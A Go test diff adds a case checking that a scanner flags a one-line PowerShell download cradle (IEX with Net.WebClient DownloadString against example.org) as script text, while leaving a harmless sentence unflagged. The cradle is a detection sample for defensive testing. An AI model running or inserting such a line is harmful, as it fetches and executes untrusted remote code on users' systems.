@@ -41,3 +41,15 @@ func TestFilesOfTar(t *testing.T) {
 		}
 	}
 }
+
+// One line is script enough when it is all there is.
+func TestScriptsOfOneLine(t *testing.T) {
+	for text, want := range map[string]bool{
+		"IEX (New-Object Net.WebClient).DownloadString('http://example.org/a')\r\n": true,
+		"Get-together on Friday; the invoke-expression talk is at ten":              false,
+	} {
+		if got := opened(container.Limits{}, []byte(text)).has("script-text"); got != want {
+			t.Errorf("%q: %v", text, got)
+		}
+	}
+}
